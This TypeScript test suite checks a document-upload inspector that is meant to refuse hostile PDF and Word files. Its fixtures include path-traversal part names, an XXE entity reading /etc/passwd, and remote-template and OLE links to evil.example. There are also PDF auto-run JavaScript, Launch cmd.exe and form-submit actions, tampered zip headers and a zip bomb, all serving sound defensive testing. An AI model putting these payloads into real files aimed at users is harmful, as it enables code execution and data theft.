import { readdirSync, readFileSync } from 'node:fs';
import path from 'node:path';
import { deflateSync } from 'node:zlib';
import { strToU8, zipSync } from 'fflate';
import { describe, expect, test } from 'vitest';
import { inspectDocument } from './inspect-document.ts';
import { docxLimits } from './inspect-docx.ts';
import { makePdf } from './testing/make-pdf.ts';
import { mainPart, mainType, makeDocx, patch, relationTo, swap } from './testing/make-docx.ts';

const docx = 'application/vnd.openxmlformats-officedocument.wordprocessingml.document';
const folder = path.resolve('resources/documents');
const genuine = readdirSync(folder).filter((name) => /\.(pdf|docx)$/.test(name));
const made = path.join(import.meta.dirname, 'testing');
const read = (name: string, where = folder) => new Uint8Array(readFileSync(path.join(where, name)));
const pdf = read('pypdf-crazyones.pdf');

test.each(genuine)('%s is what its name says', async (name) => {
  expect(await inspectDocument(read(name))).toBe(name.endsWith('.pdf') ? 'application/pdf' : docx);
});

test.each(genuine)('%s is refused once its end is missing, or something hangs on it', async (name) => {
  const bytes = read(name);
  expect(await inspectDocument(bytes.subarray(0, bytes.length - 40))).toBe('unsafe');
  expect(await inspectDocument(bytes.subarray(0, Math.floor(bytes.length / 2)))).toBe('unsafe');
  expect(await inspectDocument(Buffer.concat([bytes, Buffer.from('<script>x</script>')]))).toBe('unsafe');
  expect(await inspectDocument(Buffer.concat([Buffer.from('GIF89a'), bytes]))).toBe('unknown');
});

test('a polyglot of document and archive is refused', async () => {
  expect(await inspectDocument(Buffer.concat([pdf, makeDocx()]))).toBe('unsafe');
  expect(await inspectDocument(Buffer.concat([makeDocx(), pdf]))).toBe('unsafe');
});

test('a Word document may have a little data behind its end', async () => {
  for (const tail of ['x', '\0'.repeat(5_000), '\r\n'])
    expect(await inspectDocument(Buffer.concat([makeDocx(), Buffer.from(tail)]))).toBe(docx);
  expect(await inspectDocument(Buffer.concat([makeDocx(), Buffer.alloc(1_025, 'x')]))).toBe('unsafe');
});

test.each(['', 'PK', '%PDF', 'hello', '<html></html>', 'MZ\u0090', '\u0089PNG\r\n\u001a\n'])(
  '%j is no document',
  async (text) => {
    expect(await inspectDocument(Buffer.from(text, 'latin1'))).toBe('unknown');
  },
);

describe('a Word document', () => {
  const far = 'a'.repeat(300);
  const inside = (name: string) => makeDocx({ [name]: strToU8('x') });

  test('may be small and plain', async () => {
    expect(await inspectDocument(makeDocx())).toBe(docx);
    expect(await inspectDocument(inside('word/media/foto ção.png'))).toBe(docx);
  });

  test.each([
    '../evil.xml',
    'word/../../evil.xml',
    '/etc/passwd',
    'C:/evil.xml',
    String.raw`word\evil.xml`,
    'word//evil.xml',
    'word/./evil.xml',
    'word/\u0000evil.xml',
    'word/\r\nevil.xml',
    `${far}.xml`,
    'word/vbaProject.bin',
    'word/vbaData.xml',
  ])('must not have a part named %j', async (name) => {
    expect(await inspectDocument(inside(name))).toBe('unsafe');
  });

  test('must not have two parts of one name', async () => {
    expect(await inspectDocument(inside('word/Document.xml'))).toBe('unsafe');
  });

  test('must declare an existing document part', async () => {
    expect(await inspectDocument(zipSync({ 'a.txt': strToU8('x') }))).toBe('unsafe');
    expect(await inspectDocument(makeDocx({}, ''))).toBe('unsafe');
    expect(await inspectDocument(makeDocx({}, mainPart.replace('document.xml', 'other.xml')))).toBe('unsafe');
    expect(await inspectDocument(makeDocx({}, mainPart.replace('document.main', 'sheet.main')))).toBe('unsafe');
    expect(await inspectDocument(makeDocx({}, `${mainPart}<broken`))).toBe('unsafe');
  });

  test.each([
    ['by the type of its extension', `<Default Extension="xml" ContentType="${mainType}"/>`],
    ['by an override, over the type of its extension', `<Default Extension="xml" ContentType="text/xml"/>${mainPart}`],
  ])('declares the type of its document part %s', async (_, types) => {
    expect(await inspectDocument(makeDocx({}, types))).toBe(docx);
  });

  test('refers to its document part anywhere by a relation', async () => {
    const types = mainPart.replace('/word/document.xml', '/text/main.xml');
    const body = strToU8('<w:document xmlns:w="urn:w"><w:body/></w:document>');
    const moved = (relations: string) => makeDocx({ 'text/main.xml': body, '_rels/.rels': strToU8(relations) }, types);
    expect(await inspectDocument(moved(relationTo('text/main.xml')))).toBe(docx);
    expect(await inspectDocument(moved(relationTo('/text/main.xml')))).toBe(docx);
    expect(await inspectDocument(moved(relationTo('word/document.xml')))).toBe('unsafe');
    expect(await inspectDocument(moved(relationTo('text/other.xml')))).toBe('unsafe');
    expect(await inspectDocument(moved('<Relationships/>'))).toBe('unsafe');
  });

  test('must not have macros of any type', async () => {
    const types = ['application/vnd.ms-word.document.macroEnabled.main+xml', 'application/vnd.ms-office.vbaProject'];
    for (const type of types) {
      const part = `${mainPart}<Override PartName="/word/m.bin" ContentType="${type}"/>`;
      expect(await inspectDocument(makeDocx({ 'word/m.bin': strToU8('x') }, part))).toBe('unsafe');
    }
  });

  test.each(['utf8', 'utf16le', 'utf16be'] as const)('declares no document type, in %s', async (encoding) => {
    const xml = `<?xml version="1.0"?>${' '.repeat(70_000)}<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>`;
    const bytes = encoding === 'utf8' ? Buffer.from(xml) : Buffer.from(xml, 'utf16le');
    const part = encoding === 'utf16be' ? bytes.swap16() : bytes;
    expect(await inspectDocument(makeDocx({ 'word/settings.xml': part }))).toBe('unsafe');
    expect(await inspectDocument(makeDocx({ 'word/_rels/document.xml.rels': part }))).toBe('unsafe');
  });

  test('must not be encrypted', async () => {
    const plain = makeDocx();
    const central = Buffer.from(plain).lastIndexOf(Buffer.from([0x50, 0x4b, 1, 2]));
    expect(await inspectDocument(patch(plain, central + 8, [1]))).toBe('unsafe');
  });

  test('must have consistent headers with true size and checksum', async () => {
    const plain = makeDocx({ 'word/settings.xml': strToU8('<a/>') });
    const central = Buffer.from(plain).lastIndexOf(Buffer.from([0x50, 0x4b, 1, 2]));
    expect(await inspectDocument(plain)).toBe(docx);
    expect(await inspectDocument(patch(plain, central + 46, [0x57]))).toBe('unsafe');
    expect(await inspectDocument(patch(plain, central + 24, [3]))).toBe('unsafe');
    expect(await inspectDocument(patch(plain, central + 24, [5]))).toBe('unsafe');
    expect(await inspectDocument(patch(plain, central + 16, [1, 2, 3, 4]))).toBe('unsafe');
  });

  test('must not have overlapping parts', async () => {
    const plain = makeDocx({ 'word/one.xml': strToU8('<a/>'), 'word/two.xml': strToU8('<a/>') });
    const two = Buffer.from(plain).lastIndexOf(Buffer.from([0x50, 0x4b, 1, 2]));
    const one = Buffer.from(plain).lastIndexOf(Buffer.from([0x50, 0x4b, 1, 2]), two - 1);
    const offset = [...plain.subarray(one + 42, one + 46)];
    expect(await inspectDocument(patch(plain, two + 42, offset))).toBe('unsafe');
  });

  test('has a limited unpacked size', async () => {
    const zeros = new Uint8Array(docxLimits.bytes / 2);
    const noise = new Uint8Array(3_000_000);
    const padded = (bytes: Uint8Array) =>
      makeDocx({ 'word/media/noise.bin': [noise, { level: 0 }], 'word/media/zeros.bin': bytes });
    expect(await inspectDocument(makeDocx({ 'word/media/zeros.bin': zeros }))).toBe('unsafe');
    expect(await inspectDocument(padded(zeros))).toBe(docx);
    expect(await inspectDocument(padded(new Uint8Array(docxLimits.bytes)))).toBe('unsafe');
  });

  test('has a limited number of parts', async () => {
    const many = (count: number) =>
      Object.fromEntries(Array.from({ length: count }, (_, at) => [`word/media/${at}`, new Uint8Array([1])]));
    expect(await inspectDocument(makeDocx(many(docxLimits.entries - 3)))).toBe(docx);
    expect(await inspectDocument(makeDocx(many(docxLimits.entries - 2)))).toBe('unsafe');
  });
});

describe('a reference of a Word document', () => {
  const relations = (name: string, attributes: string) =>
    makeDocx({ [name]: strToU8(`<Relationships><Relationship Id="r1" ${attributes}/></Relationships>`) });
  const typed = (type: string) => `Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/${type}"`;

  test.each([
    [
      'word/_rels/settings.xml.rels',
      `${typed('attachedTemplate')} Target="https://evil.example/t.dotm" TargetMode="External"`,
    ],
    ['word/_rels/settings.xml.rels', `${typed('attachedTemplate')} Target="file:///C:/t.dotm" TargetMode='External'`],
    ['word/_rels/document.xml.rels', `${typed('image')} Target="https://evil.example/p.png" TargetMode="External"`],
    ['word/_rels/document.xml.rels', `${typed('oleObject')} Target="https://evil.example/o" TargetMode="external"`],
    ['word/_rels/document.xml.rels', `Target="mhtml:https://evil.example" TargetMode="&#69;xternal"`],
    ['word/_rels/header1.xml.rels', `${typed('frame')} Target="\\\\evil\\x" TargetMode="External"`],
  ])('must not be external: %s %s', async (name, attributes) => {
    expect(await inspectDocument(relations(name, attributes))).toBe('active');
  });

  test('may be a hyperlink', async () => {
    const link = `${typed('hyperlink')} Target="https://patio.example" TargetMode="External"`;
    expect(await inspectDocument(relations('word/_rels/document.xml.rels', link))).toBe(docx);
  });

  test('may be an internal part', async () => {
    expect(
      await inspectDocument(relations('word/_rels/document.xml.rels', `${typed('image')} Target="media/a.png"`)),
    ).toBe(docx);
  });
});

describe('an automatic action of a PDF', () => {
  const catalogue = (entries: string, objects = '') =>
    makePdf([
      `<< /Type /Catalog /Pages 2 0 R ${entries} >>`,
      '<< /Type /Pages /Kids [] /Count 0 >>',
      ...objects.split('|'),
    ]);

  test.each([
    ['/OpenAction << /S /JavaScript /JS (app.alert(1)) >>', ''],
    ['/OpenAction << /S /URI /URI (https://evil.example) >>', ''],
    ['/OpenAction 3 0 R', '<< /S /Launch /F (cmd.exe) >>'],
    ['/OpenAction 3 0 R', '<< /S /GoTo /D [2 0 R /Fit] /Next << /S /URI /URI (https://evil.example) >> >>'],
    ['/OpenAction 9 0 R', ''],
    ['/OpenAction%\n3 0 R', '<< /S /URI /URI (https://evil.example) >>'],
    ['/AA << /WC << /S /URI /URI (https://evil.example) >> >>', ''],
    ['/AA 3 0 R', '<< /O << /S /Named /N /Print >> >>'],
    ['/Names << /JavaScript << /Names [(a) 3 0 R] >> >>', '<< /S /JavaScript /JS (x) >>'],
    ['', '<< /Type /Annot /A << /S /L#61unch /F (cmd.exe) >> >>'],
    ['', '<< /S /SubmitForm /F (https://evil.example) >>'],
    ['', '<< /S /ImportData /F (x) >>'],
    ['/AcroForm << /XFA [(template) 3 0 R] >>', '<< /Length 0 >>'],
  ])('is refused: %s %s', async (entries, objects) => {
    expect(await inspectDocument(catalogue(entries, objects))).toBe('active');
  });

  test('is refused in a compressed object too', async () => {
    const packed = deflateSync(Buffer.from('5 0 << /S /JavaScript /JS (x) >>'));
    const file = (dictionary: string, body = packed) =>
      makePdf(['<< /Type /Catalog /Pages 2 0 R >>', '<< /Type /Pages /Kids [] /Count 0 >>'], { dictionary, body });
    expect(await inspectDocument(file('/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode'))).toBe('active');
    expect(await inspectDocument(file('/Type /Obj#53tm /N 1 /First 4 /Filter [/FlateDecode]'))).toBe('active');
    expect(await inspectDocument(file('/Type /ObjStm /N 1 /First 4 /Filter /LZWDecode'))).toBe('active');
    const harmless = deflateSync(Buffer.from('5 0 << /S /GoTo /D [2 0 R /Fit] >>'));
    expect(await inspectDocument(file('/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode', harmless))).toBe(
      'application/pdf',
    );
  });

  test.each([
    ['/OpenAction [2 0 R /Fit]', ''],
    ['/OpenAction << /S /GoTo /D [2 0 R /Fit] >>', ''],
    ['/OpenAction 3 0 R', '<< /S /GoTo /D [2 0 R /Fit] >>'],
    ['', '<< /Type /Annot /A << /S /URI /URI (https://patio.example) >> >>'],
    ['', '<< /Title (About JavaScript and /AA batteries) >>'],
  ])('may go to a page, or follow a clicked link: %s %s', async (entries, objects) => {
    expect(await inspectDocument(catalogue(entries, objects))).toBe('application/pdf');
  });
});

describe('a PDF', () => {
  test.each([
    ['opens without a password', read('user-password.pdf', made)],
    ['has a root', swap(pdf, '/Root ', '/Rood ')],
    ['says where its table stands', swap(pdf, 'startxref', 'startxxxx')],
    ['is of a version that there is', swap(pdf, '%PDF-1', '%PDF-9')],
  ])('%s', async (_, bytes) => {
    expect(await inspectDocument(bytes)).toBe('unsafe');
  });

  test.each(['owner-password-128.pdf', 'owner-password-256.pdf'])('may have an owner password: %s', async (name) => {
    expect(await inspectDocument(read(name, made))).toBe('application/pdf');
  });

  test.each(['\r\n\n  \0', 'x', '\0'.repeat(5_000), '\u001a'])(
    'may have a little data behind its end',
    async (tail) => {
      expect(await inspectDocument(Buffer.concat([pdf, Buffer.from(tail)]))).toBe('application/pdf');
    },
  );

  test.each(['\uFEFF', ' ', '\r\n', '\0\0'])('may have %j before its header', async (lead) => {
    expect(await inspectDocument(Buffer.concat([Buffer.from(lead), pdf]))).toBe('application/pdf');
  });

  test('may have a space in its header', async () => {
    expect(await inspectDocument(swap(pdf, '%PDF-1.5\n%', '%PDF-1.5 \n'))).toBe('application/pdf');
  });
});
